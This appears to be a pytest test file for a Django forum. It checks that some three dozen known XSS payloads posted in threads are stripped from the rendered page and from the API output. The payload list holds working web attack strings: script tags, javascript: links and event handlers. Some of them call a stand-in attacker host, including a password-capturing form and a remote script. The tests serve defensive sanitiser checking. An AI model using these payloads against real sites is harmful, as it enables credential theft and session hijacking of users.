"""Known XSS payloads in posts: none survives in the HTML of the thread page (nor in the API's body_html)."""

from __future__ import annotations

import re

import pytest

from alliance87.community import services

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "![x](javascript:alert(1))",
    '<iframe src="https://evil.example/"></iframe>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[x](javascript&#58;alert(1))",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "<body onload=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<div style="width: expression(alert(1))">x</div>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '`<script>alert(1)</script>` and <noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

#: What must never appear in the rendered posts, whatever the payload.
FORBIDDEN = [
    r"<script",
    r"<iframe",
    r"<svg",
    r"<math",
    r"<object",
    r"<embed",
    r"<form",
    r"<style",
    r"<img",
    r"<input",
    r"<meta",
    r"<base",
    r"<link",
    r"<body",
    r"<video",
    r"<details",
    r"\son[a-z]+\s*=",
    r"""href\s*=\s*["']?\s*(javascript|data|vbscript)""",
    r"xlink:href",
    r"expression\(",
    r"style\s*=",
]


def posts_html(page: str) -> str:
    """Only the posts of the thread page (the layout around them has its own, trusted, script tags)."""
    match = re.search(r'<ol class="list-plain posts">(.*?)</ol>', page, re.DOTALL)
    assert match, "no posts on the page"
    return match.group(1)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_xss_payload_survives_on_the_thread_page(world, spaces, client_for, payload):
    post = services.reply(thread=spaces.public_thread, by=world.chair, body=f"Before {payload} after")

    page = client_for(world.member).get(spaces.public_thread.get_absolute_url()).content.decode()

    assert f'id="post-{post.pk}"' in page
    html = posts_html(page)
    for pattern in FORBIDDEN:
        assert not re.search(pattern, html, re.IGNORECASE), f"{pattern!r} survived in {html!r}"
    assert "Before" in html and "after" in html  # the harmless text around the payload is kept


def test_harmless_markdown_is_rendered(world, spaces, client_for):
    services.reply(
        thread=spaces.public_thread,
        by=world.chair,
        body="**bold** and [a report](https://www.alliance87.org/report)\n\n- one\n- two",
    )

    html = posts_html(client_for(None).get(spaces.public_thread.get_absolute_url()).content.decode())

    assert "<strong>bold</strong>" in html
    assert 'href="https://www.alliance87.org/report"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "<li>one</li>" in html


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_no_xss_payload_survives_in_the_api(world, spaces, payload):
    from django.test import Client

    services.reply(thread=spaces.public_thread, by=world.chair, body=payload)

    posts = Client().get(f"/api/v1/community/threads/{spaces.public_thread.pk}/posts").json()["items"]

    html = posts[-1]["body_html"]
    for pattern in FORBIDDEN:
        assert not re.search(pattern, html, re.IGNORECASE), f"{pattern!r} survived in {html!r}"
